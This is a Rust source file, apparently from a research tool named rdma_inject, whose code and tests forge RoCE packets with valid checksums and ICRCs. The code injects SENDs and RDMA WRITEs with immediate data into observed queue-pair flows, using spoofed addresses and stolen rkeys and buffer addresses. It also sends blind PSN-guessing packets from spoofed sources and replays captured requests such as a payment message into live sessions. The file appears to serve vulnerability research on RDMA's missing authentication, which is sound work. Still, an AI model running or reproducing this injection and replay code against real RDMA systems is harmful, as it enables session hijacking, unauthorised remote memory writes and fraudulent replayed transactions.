//! Forging frames: the next-PSN SEND or WRITE WITH IMMEDIATE into a learned flow, a blind
//! guess, a captured request renumbered into a live flow.
//!
//! Every frame comes from [`roce::PacketBuilder`], so lengths, the IPv4 checksum and the ICRC
//! are right: rxe drops a packet with a wrong ICRC before even counting it, so a forgery that
//! does not decode back with a valid ICRC is no forgery at all (the tests check that).

use std::net::IpAddr;

use roce::psn;
use roce::{ExtHeaders, ImmDt, MacAddr, Opcode, Packet, PacketBuilder, Reth};
use serde::Serialize;

use crate::learn::Flow;

/// Why a frame could not be forged.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ForgeError {
    /// A WRITE WITH IMMEDIATE needs an rkey and address, which only an observed RDMA WRITE
    /// gives.
    #[error(
        "no RDMA WRITE was observed in the flow to {dst} QPN {qpn:#x}, so its rkey and buffer \
         address are unknown: let the victim do a write while observing (or forge a SEND instead)"
    )]
    NoWriteObserved {
        /// The responder.
        dst: IpAddr,
        /// The responder's QP.
        qpn: u32,
    },
    /// Source and destination addresses of different IP versions.
    #[error("source {src} and destination {dst} are not the same IP version")]
    MixedIpVersions {
        /// The source given.
        src: IpAddr,
        /// The destination given.
        dst: IpAddr,
    },
    /// The payload is longer than a WRITE's 32-bit length (or a frame) can carry.
    #[error("a payload of {0} bytes is too long to forge: keep it under one path MTU")]
    PayloadTooLong(usize),
    /// The encoder refused a field.
    #[error("building the frame: {0}")]
    Encode(#[source] roce::EncodeError),
}

impl From<roce::EncodeError> for ForgeError {
    fn from(e: roce::EncodeError) -> ForgeError {
        ForgeError::Encode(e)
    }
}

/// The message to inject into a learned flow.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Injection {
    /// RC SEND Only carrying these bytes.
    Send(Vec<u8>),
    /// RC RDMA WRITE Only with Immediate of these bytes at the observed rkey and address.
    WriteImm {
        /// The bytes written.
        data: Vec<u8>,
        /// The immediate; `None`: the payload length, as this project's server reads it.
        imm: Option<u32>,
    },
}

/// A forged frame and what it is, for the report.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Forged {
    /// The Ethernet frame to send.
    pub frame: Vec<u8>,
    /// Its opcode.
    pub opcode: Opcode,
    /// Its destination QP.
    pub dst_qpn: u32,
    /// Its PSN.
    pub psn: u32,
    /// Its payload length.
    pub payload_len: usize,
}

/// What [`Forged`] reports (`--json`: `{"injected": …}`).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct InjectedReport {
    /// The opcode's name, e.g. "RC SEND Only".
    pub opcode: &'static str,
    /// The destination QP.
    pub dst_qpn: u32,
    /// The PSN.
    pub psn: u32,
    /// The frame's length on the wire (without FCS).
    pub bytes: usize,
    /// The payload's length.
    pub payload_len: usize,
}

impl Forged {
    fn of(
        b: &PacketBuilder,
        dst_qpn: u32,
        psn: u32,
        payload_len: usize,
    ) -> Result<Forged, ForgeError> {
        Ok(Forged {
            frame: b.frame()?,
            opcode: b.opcode(),
            dst_qpn,
            psn,
            payload_len,
        })
    }

    /// The report of this frame.
    pub fn report(&self) -> InjectedReport {
        InjectedReport {
            opcode: self.opcode.name(),
            dst_qpn: self.dst_qpn,
            psn: self.psn,
            bytes: self.frame.len(),
            payload_len: self.payload_len,
        }
    }
}

/// The on-path forgery: `injection` at the flow's next PSN, from the requester's addresses,
/// MACs and UDP port, with the ACK request bit set (the responder acknowledges it like a
/// genuine message) and the solicited bit set (a receiver waiting for solicited completions
/// only is woken too).
///
/// ```
/// use rdma_inject::forge::{forge, Injection};
/// use rdma_inject::learn::FlowLearner;
/// use roce::{Opcode, PacketBuilder};
///
/// let seen = PacketBuilder::new(Opcode::RC_SEND_ONLY)
///     .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
///     .dest_qp(17)
///     .psn(41)
///     .payload(*b"genuine")
///     .frame()?;
/// let mut learner = FlowLearner::new(None);
/// learner.observe(&roce::decode_ethernet(&seen)?);
/// let forged = forge(learner.flow().unwrap(), &Injection::Send(b"forged".to_vec()))?;
/// let p = roce::decode_ethernet(&forged.frame)?;
/// assert_eq!((p.bth.psn, p.bth.dest_qp, p.payload), (42, 17, &b"forged"[..]));
/// assert!(p.icrc_ok);
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
pub fn forge(flow: &Flow, injection: &Injection) -> Result<Forged, ForgeError> {
    let base = next_request(flow).solicited(true);
    let (b, len) = match injection {
        Injection::Send(data) => (
            base.with_opcode(Opcode::RC_SEND_ONLY).payload(data.clone()),
            data.len(),
        ),
        Injection::WriteImm { data, imm } => {
            let target = flow.write.ok_or(ForgeError::NoWriteObserved {
                dst: flow.dst_ip,
                qpn: flow.dst_qpn,
            })?;
            let len =
                u32::try_from(data.len()).map_err(|_| ForgeError::PayloadTooLong(data.len()))?;
            let b = base
                .with_opcode(Opcode::RC_RDMA_WRITE_ONLY_IMM)
                .reth(Reth {
                    va: target.va,
                    rkey: target.rkey,
                    dma_len: len,
                })
                .immdt(ImmDt(imm.unwrap_or(len)))
                .payload(data.clone());
            (b, data.len())
        }
    };
    Forged::of(&b, flow.dst_qpn, flow.next_psn, len)
}

/// The off-path attacker's packet: everything but the PSN is known or guessable (addresses,
/// the responder's QPN — rxe allocates them in order), the PSN is not.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BlindSpec {
    /// Frame source (the attacker's own, or a spoofed one).
    pub src_mac: MacAddr,
    /// Frame destination: the responder's (or its next hop's) MAC.
    pub dst_mac: MacAddr,
    /// The spoofed requester address (rxe checks it against the QP's peer).
    pub src_ip: IpAddr,
    /// The responder.
    pub dst_ip: IpAddr,
    /// UDP source port (responders do not check it).
    pub src_port: u16,
    /// The responder's QP.
    pub qpn: u32,
    /// The SEND's payload.
    pub payload: Vec<u8>,
}

impl BlindSpec {
    /// The builder every guess starts from; fails on mixed IP versions.
    pub fn builder(&self) -> Result<PacketBuilder, ForgeError> {
        let b = PacketBuilder::new(Opcode::RC_SEND_ONLY)
            .src_mac(self.src_mac)
            .dst_mac(self.dst_mac)
            .src_port(self.src_port)
            .dest_qp(self.qpn)
            .ack_req(true)
            .solicited(true)
            .payload(self.payload.clone());
        match (self.src_ip, self.dst_ip) {
            (IpAddr::V4(s), IpAddr::V4(d)) => Ok(b.ipv4(s, d)),
            (IpAddr::V6(s), IpAddr::V6(d)) => Ok(b.ipv6(s, d)),
            (src, dst) => Err(ForgeError::MixedIpVersions { src, dst }),
        }
    }

    /// The guess with this PSN (masked to 24 bits).
    ///
    /// ```
    /// use rdma_inject::forge::BlindSpec;
    /// use roce::MacAddr;
    ///
    /// let spec = BlindSpec {
    ///     src_mac: MacAddr([2, 0, 0, 0, 0, 2]),
    ///     dst_mac: MacAddr([2, 0, 0, 0, 0, 1]),
    ///     src_ip: [10, 77, 0, 2].into(),
    ///     dst_ip: [10, 77, 0, 1].into(),
    ///     src_port: 49152,
    ///     qpn: 17,
    ///     payload: b"guess".to_vec(),
    /// };
    /// let b = spec.builder()?;
    /// let guess = spec.guess(&b, 0x123456)?;
    /// assert_eq!(roce::decode_ethernet(&guess.frame)?.bth.psn, 0x123456);
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    pub fn guess(&self, builder: &PacketBuilder, psn: u32) -> Result<Forged, ForgeError> {
        let psn = psn & psn::PSN_MASK;
        Forged::of(&builder.clone().psn(psn), self.qpn, psn, self.payload.len())
    }
}

/// A captured request re-sent into a live flow: PSN `psn`, the flow's QPN, and the flow's
/// addresses, MACs and UDP port, so a message captured earlier (even in another session)
/// lands as the flow's next. Extension headers and payload stay as captured (a replayed WRITE
/// keeps its captured rkey and address: it lands only while that registration lives).
///
/// ```
/// use rdma_inject::forge::renumber;
/// use rdma_inject::learn::FlowLearner;
/// use roce::{Opcode, PacketBuilder};
///
/// let send = |psn, text: &[u8]| {
///     PacketBuilder::new(Opcode::RC_SEND_ONLY)
///         .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
///         .dest_qp(17)
///         .psn(psn)
///         .payload(text.to_vec())
///         .frame()
/// };
/// let captured = send(5, b"pay 100 to mallory")?;
/// let live = send(9000, b"later")?;
/// let mut learner = FlowLearner::new(None);
/// learner.observe(&roce::decode_ethernet(&live)?);
/// let again = renumber(&roce::decode_ethernet(&captured)?, learner.flow().unwrap(), 9001)?;
/// let p = roce::decode_ethernet(&again.frame)?;
/// assert_eq!((p.bth.psn, p.payload), (9001, &b"pay 100 to mallory"[..]));
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
pub fn renumber(captured: &Packet<'_>, flow: &Flow, psn: u32) -> Result<Forged, ForgeError> {
    let psn = psn & psn::PSN_MASK;
    let b = PacketBuilder::from_packet(captured)
        .src_mac(flow.src_mac)
        .dst_mac(flow.dst_mac)
        .src_port(flow.src_port)
        .dest_qp(flow.dst_qpn)
        .psn(psn);
    let b = match (flow.src_ip, flow.dst_ip) {
        (IpAddr::V4(s), IpAddr::V4(d)) => b.ipv4(s, d),
        (IpAddr::V6(s), IpAddr::V6(d)) => b.ipv6(s, d),
        (src, dst) => return Err(ForgeError::MixedIpVersions { src, dst }),
    };
    Forged::of(&b, flow.dst_qpn, psn, captured.payload.len())
}

/// The flow's next request as its requester would send it: the last request's headers, to the
/// responder's QP at the next PSN, asking for an acknowledgement; the caller adds the opcode's
/// headers and the payload.
pub(crate) fn next_request(flow: &Flow) -> PacketBuilder {
    flow.template
        .clone()
        .ext(ExtHeaders::default())
        .dest_qp(flow.dst_qpn)
        .psn(flow.next_psn)
        .ack_req(true)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::learn::FlowLearner;
    use roce::{IcrcCheck, Operation};

    fn learned(ops: &[(Opcode, u32)]) -> FlowLearner {
        let mut l = FlowLearner::new(Some([10, 77, 0, 1].into()));
        for &(op, psn) in ops {
            let mut b = PacketBuilder::new(op)
                .src_mac(MacAddr([2, 0, 0, 0, 0, 2]))
                .dst_mac(MacAddr([2, 0, 0, 0, 0, 1]))
                .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
                .src_port(0xe3a1)
                .ttl(63)
                .dest_qp(0x11)
                .psn(psn)
                .payload(*b"genuine");
            if op == Opcode::RC_RDMA_WRITE_ONLY_IMM {
                b = b
                    .reth(Reth {
                        va: 0x7f00_1000,
                        rkey: 0x1234,
                        dma_len: 7,
                    })
                    .immdt(ImmDt(7));
            }
            let frame = b.frame().unwrap();
            l.observe(&roce::decode_ethernet(&frame).unwrap());
        }
        l
    }

    #[test]
    fn forged_send_decodes_with_a_valid_icrc_and_the_next_psn() {
        let l = learned(&[(Opcode::RC_SEND_ONLY, 0xff_ffff)]);
        let f = forge(l.flow().unwrap(), &Injection::Send(b"FORGED".to_vec())).unwrap();
        let p = roce::decode_ethernet(&f.frame).unwrap();
        assert_eq!(p.icrc_check, IcrcCheck::Valid);
        assert_eq!(p.opcode(), Opcode::RC_SEND_ONLY);
        assert_eq!(
            (p.bth.dest_qp, p.bth.psn, p.payload),
            (0x11, 0, &b"FORGED"[..])
        );
        assert!(p.bth.ack_req && p.bth.se);
        assert_eq!(p.src().unwrap().to_string(), "10.77.0.2:58273");
        assert_eq!(p.dst().unwrap().to_string(), "10.77.0.1:4791");
        let eth = p.ethernet.unwrap();
        assert_eq!((eth.src.0[5], eth.dst.0[5]), (2, 1));
        // The IP fields copy the genuine requester's.
        let Some(roce::IpHeader::V4(ip)) = p.ip else {
            panic!("IPv4 expected: {:?}", p.ip)
        };
        assert_eq!(ip.ttl, 63);
        assert_eq!((f.psn, f.dst_qpn, f.payload_len), (0, 0x11, 6));
        let r = f.report();
        assert_eq!((r.opcode, r.bytes), ("RC SEND Only", f.frame.len()));
    }

    #[test]
    fn forged_write_with_immediate_uses_the_observed_rkey_and_address() {
        let l = learned(&[
            (Opcode::RC_RDMA_WRITE_ONLY_IMM, 10),
            (Opcode::RC_SEND_ONLY, 11),
        ]);
        let inj = Injection::WriteImm {
            data: b"FORGED-WRITE".to_vec(),
            imm: None,
        };
        let f = forge(l.flow().unwrap(), &inj).unwrap();
        let p = roce::decode_ethernet(&f.frame).unwrap();
        assert!(p.icrc_ok);
        assert_eq!(p.opcode().operation(), Operation::WriteOnlyImm);
        assert_eq!(p.bth.psn, 12);
        let reth = p.ext.reth.unwrap();
        assert_eq!(
            (reth.va, reth.rkey, reth.dma_len),
            (0x7f00_1000, 0x1234, 12)
        );
        // The immediate defaults to the length: what the server reads the WRITE's size from.
        assert_eq!(p.ext.immdt, Some(ImmDt(12)));
        let inj = Injection::WriteImm {
            data: b"x".to_vec(),
            imm: Some(0xdead_beef),
        };
        let p2 = forge(l.flow().unwrap(), &inj).unwrap();
        let p2 = roce::decode_ethernet(&p2.frame).unwrap();
        assert_eq!(p2.ext.immdt, Some(ImmDt(0xdead_beef)));
    }

    #[test]
    fn write_with_immediate_without_an_observed_write_is_a_clear_error() {
        let l = learned(&[(Opcode::RC_SEND_ONLY, 10)]);
        let inj = Injection::WriteImm {
            data: b"x".to_vec(),
            imm: None,
        };
        let e = forge(l.flow().unwrap(), &inj).unwrap_err();
        assert_eq!(
            e,
            ForgeError::NoWriteObserved {
                dst: [10, 77, 0, 1].into(),
                qpn: 0x11
            }
        );
        let msg = e.to_string();
        assert!(msg.contains("no RDMA WRITE was observed"), "{msg}");
        assert!(msg.contains("QPN 0x11"), "{msg}");
    }

    #[test]
    fn blind_guesses_carry_the_psn_masked_to_24_bits() {
        let spec = BlindSpec {
            src_mac: MacAddr([2, 0, 0, 0, 0, 2]),
            dst_mac: MacAddr([2, 0, 0, 0, 0, 1]),
            src_ip: [10, 77, 0, 2].into(),
            dst_ip: [10, 77, 0, 1].into(),
            src_port: 49152,
            qpn: 17,
            payload: b"BLIND".to_vec(),
        };
        let b = spec.builder().unwrap();
        for psn in [0, 1, 0xff_ffff, 0x0100_0002] {
            let g = spec.guess(&b, psn).unwrap();
            let p = roce::decode_ethernet(&g.frame).unwrap();
            assert!(p.icrc_ok);
            assert_eq!((p.bth.psn, p.bth.dest_qp), (psn & 0xff_ffff, 17));
            assert_eq!(p.src().unwrap().ip(), IpAddr::from([10, 77, 0, 2]));
        }
        let mixed = BlindSpec {
            dst_ip: "fe80::1".parse().unwrap(),
            ..spec
        };
        assert!(matches!(
            mixed.builder(),
            Err(ForgeError::MixedIpVersions { .. })
        ));
    }

    #[test]
    fn renumbered_replay_follows_the_live_flow() {
        // Captured in an old session: other QPN, PSN, port.
        let old = PacketBuilder::new(Opcode::RC_SEND_ONLY)
            .ipv4([10, 77, 0, 2].into(), [10, 77, 0, 1].into())
            .src_port(1234)
            .dest_qp(0x99)
            .psn(3)
            .payload(*b"transfer 100")
            .frame()
            .unwrap();
        let l = learned(&[(Opcode::RC_SEND_ONLY, 0xff_fffe)]);
        let flow = l.flow().unwrap();
        let f = renumber(&roce::decode_ethernet(&old).unwrap(), flow, flow.next_psn).unwrap();
        let p = roce::decode_ethernet(&f.frame).unwrap();
        assert!(p.icrc_ok);
        assert_eq!((p.bth.dest_qp, p.bth.psn), (0x11, 0xff_ffff));
        assert_eq!(p.src().unwrap().port(), 0xe3a1);
        assert_eq!(p.payload, b"transfer 100");
    }
}
